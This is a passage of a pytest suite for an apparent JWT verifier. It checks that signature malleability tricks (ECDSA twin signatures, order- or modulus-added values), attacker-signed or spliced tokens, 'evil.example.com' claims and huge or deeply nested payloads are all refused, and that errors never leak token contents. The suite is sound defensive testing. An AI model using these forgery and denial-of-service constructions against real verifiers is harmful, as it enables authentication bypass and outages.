        pytest.param(bytes(65), id="a byte too many"),
        pytest.param(bytes(96), id="as long as ES384"),
        pytest.param(bytes(132), id="as long as ES512"),
        pytest.param(bytes(256), id="as long as RS256"),
    ],
)
@pytest.mark.parametrize("alg", ["ES256", "ES384", "ES512", "EdDSA", "RS256", "PS256"])
def test_refuses_a_signature_that_nobody_made(alg: str, signed: bytes) -> None:
    header, payload, _ = mint(claims(), key=key_of(alg), alg=alg).split(".")
    assert verdict(static(alg), f"{header}.{payload}.{base64url(signed)}") == "bad_signature"


@pytest.mark.parametrize("alg", ["ES256", "ES384", "ES512"])
def test_refuses_a_signature_in_der(alg: str) -> None:
    head, _, signed = mint(claims(), key=key_of(alg), alg=alg).rpartition(".")
    header, _, payload = head.partition(".")
    raw = from_base64url(signed.encode())
    half = len(raw) // 2
    r, s = int.from_bytes(raw[:half], "big"), int.from_bytes(raw[half:], "big")
    der = encode_dss_signature(r, s)
    assert decode_dss_signature(der) == (r, s)
    assert verdict(static(alg), f"{header}.{payload}.{base64url(raw)}") == GOOD
    assert verdict(static(alg), f"{header}.{payload}.{base64url(der)}") == "bad_signature"
    wide = r.to_bytes(half + 1, "big") + s.to_bytes(half + 1, "big")
    assert verdict(static(alg), f"{header}.{payload}.{base64url(wide)}") == "bad_signature"
    beyond = r + {"ES256": P256_ORDER}.get(alg, 0)
    if alg == "ES256" and beyond < 2**256:
        assert verdict(static(alg), f"{header}.{payload}.{base64url(_es256(beyond, s))}") == "bad_signature"


def test_revokes_the_twin_of_an_ecdsa_token_together_with_it() -> None:
    """Whoever has the signature (r, s) can write (r, -s), which is as good: it must not be another token by that."""
    judge = static("ES256", max_lifetime=600)
    token = mint(claims({"jti": ...}), key=key_of("ES256"), alg="ES256")
    head, _, signed = token.rpartition(".")
    raw = from_base64url(signed.encode())
    s = int.from_bytes(raw[32:], "big")
    twin = f"{head}.{base64url(raw[:32] + (P256_ORDER - s).to_bytes(32, 'big'))}"
    assert (verdict(judge, token), verdict(judge, twin)) == (GOOD, GOOD)
    judge.denylist.revoke(judge.verify(token))
    assert (verdict(judge, token), verdict(judge, twin)) == ("revoked", "revoked")


def test_refuses_an_ed25519_signature_with_the_order_added() -> None:
    key = key_of("EdDSA")
    head, _, signed = mint(claims(), key=key, alg="EdDSA").rpartition(".")
    raw = from_base64url(signed.encode())
    scalar = int.from_bytes(raw[32:], "little")
    for multiple in (1, 2, 7):
        other = raw[:32] + (scalar + multiple * ED25519_ORDER).to_bytes(32, "little")
        assert verdict(static("EdDSA"), f"{head}.{base64url(other)}") == "bad_signature"


def test_refuses_an_rsa_signature_with_the_modulus_added_or_a_zero_before_it() -> None:
    key = key_of("RS256")
    assert isinstance(key, RSAPrivateKey)
    modulus, judge, added = key.public_key().public_numbers().n, static("RS256"), 0
    for number in range(60):
        header, payload, _ = mint(claims({"jti": f"{number}"}), key=key, alg="RS256").split(".")
        raw = signature(f"{header}.{payload}".encode(), key=key, alg="RS256")
        assert verdict(judge, f"{header}.{payload}.{base64url(bytes(1) + raw)}") == "bad_signature"
        beyond = int.from_bytes(raw, "big") + modulus
        if beyond < 2**2048:
            added += 1
            assert verdict(judge, f"{header}.{payload}.{base64url(beyond.to_bytes(256, 'big'))}") == "bad_signature"
    assert added or modulus > 2**2048 * 0.95


@pytest.mark.parametrize("alg", ["HS256", *ASYMMETRIC])
def test_refuses_a_token_signed_by_somebody_else(alg: str) -> None:
    if alg == "HS256":
        assert verdict(verifier(), mint(claims(), key=OLD_SECRET)) == "bad_signature"
        return
    token = mint(claims(), key=key_of(alg, "the attacker's"), alg=alg)
    assert verdict(static(alg), token) == "bad_signature"


@pytest.mark.parametrize("alg", ["HS256", "RS256", "ES256", "EdDSA"])
def test_refuses_the_signature_of_another_token(alg: str) -> None:
    key = SECRET if alg == "HS256" else key_of(alg)
    judge = verifier() if alg == "HS256" else static(alg)
    one, other = (mint(claims({"sub": sub}), key=key, alg=alg).split(".") for sub in ("ana", "bob"))
    assert verdict(judge, ".".join((*one[:2], other[2]))) == "bad_signature"
    assert verdict(judge, ".".join((one[0], other[1], one[2]))) == "bad_signature"


# --- What is said, and when ------------------------------------------------------------------------------------------

SPOILT_CLAIMS: list[dict[str, Any]] = [
    {"exp": NOW - 4000},
    {"exp": "soon"},
    {"nbf": NOW + 4000},
    {"iss": "https://evil.example.com"},
    {"aud": "https://evil.example.com"},
    {"sub": 5},
    {"jti": ""},
    {"cnf": {}},
]


@pytest.mark.parametrize("changes", SPOILT_CLAIMS, ids=repr)
@pytest.mark.parametrize("alg", ["HS256", "RS256", "ES256", "EdDSA"])
def test_says_nothing_of_the_claims_before_the_signature_holds(changes: dict[str, Any], alg: str) -> None:
    judge = verifier() if alg == "HS256" else static(alg)
    key = OLD_SECRET if alg == "HS256" else key_of(alg, "the attacker's")
    assert verdict(judge, mint(claims(changes), key=key, alg=alg)) == "bad_signature"
    honest = SECRET if alg == "HS256" else key_of(alg)
    assert verdict(judge, mint(claims(changes), key=honest, alg=alg)) not in ("bad_signature", GOOD)


def test_says_nothing_of_broken_claims_before_the_signature_holds() -> None:
    assert verdict(verifier(), mint(b"not JSON", key=OLD_SECRET)) == "bad_signature"
    assert verdict(verifier(), mint(b"not JSON")) == "malformed"


@pytest.mark.parametrize("secrets", [(SECRET, OLD_SECRET), (OLD_SECRET, SECRET), (OLD_SECRET, "x" * 32, SECRET)])
def test_says_expired_if_any_of_several_secrets_verifies(secrets: tuple[str, ...]) -> None:
    judge = verifier(keys=SharedSecrets(*secrets))
    assert verdict(judge, mint(claims())) == GOOD
    assert verdict(judge, mint(claims({"exp": NOW - 4000}))) == "expired"
    assert verdict(judge, mint(claims({"exp": NOW - 4000}), key=b"y" * 32)) == "bad_signature"


def test_says_expired_if_any_of_several_keys_verifies() -> None:
    names = ("first", "second", "third")
    keys = StaticKeys({"keys": [public_jwk(key_of("ES256", name)) for name in names]})
    judge = verifier(keys=keys, algorithms=("ES256",))
    for name in names:
        token = mint(claims({"exp": NOW - 4000}), key=key_of("ES256", name), alg="ES256")
        assert verdict(judge, token) == "expired"


REFUSED = [
    pytest.param(lambda: mint(claims(), key=OLD_SECRET), id="bad signature"),
    pytest.param(lambda: mint(claims({"exp": NOW - 4000})), id="expired"),
    pytest.param(lambda: mint(b'{"secret-claim": '), id="no JSON"),
    pytest.param(lambda: mint(claims(), headers=b'{"alg":"HS256","secret-claim":'), id="no JSON in the header"),
    pytest.param(lambda: mint(claims({"iss": "secret-claim"})), id="another issuer"),
    pytest.param(lambda: mint(claims({"aud": ["secret-claim"]})), id="another audience"),
    pytest.param(lambda: mint(claims({"jti": "secret-claim" * 100})), id="a long jti"),
    pytest.param(lambda: mint(claims({"role": "secret-claim"})), id="a rule"),
    pytest.param(lambda: mint(claims({"boom": "secret-claim"})), id="a rule that raises"),
    pytest.param(lambda: mint(claims(), headers={"kid": 5, "secret-claim": 1}), id="a kid of a wrong kind"),
    pytest.param(lambda: mint(claims(), headers={"alg": "secret-claim"}), id="another algorithm"),
    pytest.param(lambda: mint(claims()) + "\u00e9secret-claim", id="no ASCII"),
    pytest.param(lambda: mint(claims({"x": "secret-claim" * 1000})), id="too large"),
]


def _raises_with(values: Any) -> bool:
    if "boom" in values:
        raise RuntimeError(values["boom"])
    return True


@pytest.mark.parametrize("made", REFUSED)
def test_never_tells_a_token_or_a_claim(made: Callable[[], str], caplog: pytest.LogCaptureFixture) -> None:
    token = made()
    judge = verifier(rules={"role": IfPresent("owner")}, checks=(_raises_with,), keys=SharedSecrets(SECRET))
    with caplog.at_level(logging.DEBUG, logger="bearerguard"), pytest.raises(AuthError) as caught:
        judge.verify(token)
    error = caught.value
    told = [caplog.text, str(error), repr(error), str(error.body()), str(error.headers()), repr(error.__cause__)]
    told += traceback.format_exception(error)
    told.append(str(vars(error)))
    for text in told:
        assert "secret-claim" not in text
        assert not any(len(part) > 8 and part in text for part in token.split("."))
        assert SECRET not in text


# --- Size ------------------------------------------------------------------------------------------------------------

MANY = 10_000_000


def _huge(unit: str) -> str:
    return (unit * (MANY // len(unit) + 1))[:MANY]


@pytest.mark.timed
@pytest.mark.parametrize(
    "made",
    [
        pytest.param(lambda: _huge("A"), id="letters"),
        pytest.param(lambda: _huge("."), id="dots"),
        pytest.param(lambda: _huge("A."), id="letters and dots"),
        pytest.param(lambda: _huge("\u00e9"), id="letters beyond ASCII"),
        pytest.param(lambda: _huge("\U0001f600"), id="letters beyond the first plane"),
        pytest.param(lambda: _huge("\ud800"), id="lone surrogates"),
        pytest.param(lambda: _huge(" "), id="spaces"),
        pytest.param(lambda: _huge("="), id="padding"),
        pytest.param(lambda: sealed(base64url(HEADER), base64url(b"[" * (MANY * 3 // 4))), id="deep claims"),
        pytest.param(lambda: sealed(base64url(b"[" * (MANY * 3 // 4)), base64url(PAYLOAD)), id="a deep header"),
        pytest.param(lambda: mint(claims({"x": [0] * (MANY // 4)})), id="a long array"),
        pytest.param(lambda: mint(claims(), headers={"kid": "x" * (MANY * 3 // 4)}), id="a long kid"),
        pytest.param(lambda: mint(claims()) + "A" * MANY, id="a long signature"),
    ],
)
def test_refuses_ten_megabytes_before_they_cost(made: Callable[[], str]) -> None:
    judge, token = verifier(), made()
    assert verdict(judge, token) == "too_large"
    assert min(_seconds(judge, token) for _ in range(5)) < FIVE_MILLISECONDS


@pytest.mark.timed
@pytest.mark.parametrize("token", [b"A" * MANY, bytearray(MANY), [0] * MANY], ids=lambda token: type(token).__name__)
def test_refuses_ten_megabytes_of_something_else(token: object) -> None:
    judge = verifier()
    assert verdict(judge, token) == "malformed"
    assert min(_seconds(judge, token) for _ in range(5)) < FIVE_MILLISECONDS


def _seconds(judge: Verifier[SignedTokens], token: Any) -> float:
    started = time.perf_counter()
    verdict(judge, token)
    return time.perf_counter() - started


@pytest.mark.timed
@pytest.mark.parametrize(
    "spoilt",
    [
        pytest.param(b'"x":' + b"[" * 5900, id="deep"),
        pytest.param(b'"x":[' + b"0," * 2900 + b"0]" + b'"', id="long"),
        pytest.param(b'"x":' + b"9" * 4200 + b".", id="a long number"),
        pytest.param(b",".join(b'"%d":0' % n for n in range(700)) + b',"0":0', id="many names, the first twice"),
        pytest.param(b'"x":"' + b"\\ud83d\\ude00" * 450 + b'\\udc00"', id="many escapes"),
    ],
)
@either_part
def test_refuses_what_is_costly_inside_the_limit(made: Callable[[bytes], str], document: bytes, spoilt: bytes) -> None:
    judge, token = verifier(), made(document[:-1] + b"," + spoilt + b"}")
    assert len(token) <= 8192
    assert verdict(judge, token) == "malformed"
    assert min(_seconds(judge, token) for _ in range(5)) < FIVE_MILLISECONDS


@pytest.mark.parametrize("most", [400, 1001, 4098, 8191, 8192])
def test_refuses_one_byte_more_than_the_limit(most: int) -> None:
    token = _of_length(most)
    assert verdict(verifier(max_bytes=most), token) == GOOD
    assert verdict(verifier(max_bytes=most), token + "A") == "too_large"
    assert verdict(verifier(max_bytes=most - 1), token) == "too_large"


def _of_length(length: int) -> str:
    """A good token of just that length, which white space in its header and its claims makes up."""
    spellings = (
        sealed(base64url(HEADER + b" " * before), base64url(PAYLOAD + b" " * after))
        for before in range(3)
        for after in range(length)
    )
    return next(token for token in spellings if len(token) == length)


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(b"[" * 700_000, id="open arrays"),
        pytest.param(b'{"a":' * 120_000 + b"1" + b"}" * 120_000, id="objects"),
        pytest.param(b"[" * 350_000 + b"]" * 350_000, id="arrays"),
        pytest.param(b'{"x":' + b"1" * 700_000 + b"}", id="a number"),
    ],
)
def test_refuses_a_megabyte_of_depth_where_the_settings_let_it_in(payload: bytes) -> None:
    judge = verifier(max_bytes=1_048_576)
    assert verdict(judge, with_payload(payload)) == "malformed"
    assert verdict(judge, with_header(payload)) == "malformed"


# --- Whatever comes --------------------------------------------------------------------------------------------------

ANY_JUDGE = [verifier(), static("RS256"), static("ES256"), static("EdDSA")]
NO_TOKEN: list[object] = [
    None,
    "",
    b"",
    b"abc",
    bytearray(b"a.b.c"),
    memoryview(b"a.b.c"),
    0,
    5,
    1.5,
    True,
    [],
    {},
    (),
    object(),
    ...,
    str,
]


@pytest.mark.parametrize(
    "token", NO_TOKEN, ids=[f"{number} {type(one).__name__}" for number, one in enumerate(NO_TOKEN)]
)
def test_refuses_what_is_no_text(token: object) -> None:
    for judge in ANY_JUDGE:
        assert verdict(judge, token) in ("malformed", "missing_token")


@given(st.one_of(st.text(), st.binary(), st.text(alphabet=ALPHABET + ".=+/ \n\ud800\u00e9", max_size=400)))
def test_answers_any_text_with_an_error_of_its_own(token: str | bytes) -> None:
    for judge in ANY_JUDGE:
        assert verdict(judge, token) != GOOD


SEGMENT = st.one_of(
    st.binary(max_size=60).map(base64url),
    st.text(alphabet=ALPHABET, max_size=40),
    st.recursive(
        st.none() | st.booleans() | st.floats() | st.integers() | st.text(),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
        max_leaves=12,
    ).map(lambda value: base64url(json.dumps(value).encode())),
    st.dictionaries(
        st.sampled_from(["alg", "typ", "kid", "crit", "b64", "zip", "jwk", "iss", "aud", "exp", "sub", "jti", "cnf"]),
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=12) | st.just("HS256"),
    ).map(lambda value: base64url(json.dumps(value).encode())),
    st.just(base64url(HEADER)),
    st.just(base64url(PAYLOAD)),
)


@given(st.lists(SEGMENT, min_size=1, max_size=5).map(".".join))
def test_answers_any_segments_with_an_error_of_its_own(token: str) -> None:
    for judge in ANY_JUDGE:
        assert verdict(judge, token) != GOOD


@given(SEGMENT, SEGMENT)
def test_answers_any_signed_segments_with_an_error_of_its_own(header: str, payload: str) -> None:
    assert verdict(ANY_JUDGE[0], sealed(header, payload)) in (GOOD, *REASONS)


@given(st.binary(max_size=200), st.booleans())
def test_answers_any_signed_bytes_with_an_error_of_its_own(document: bytes, as_header: bool) -> None:
    token = with_header(document) if as_header else with_payload(document)
    assert verdict(ANY_JUDGE[0], token) != GOOD
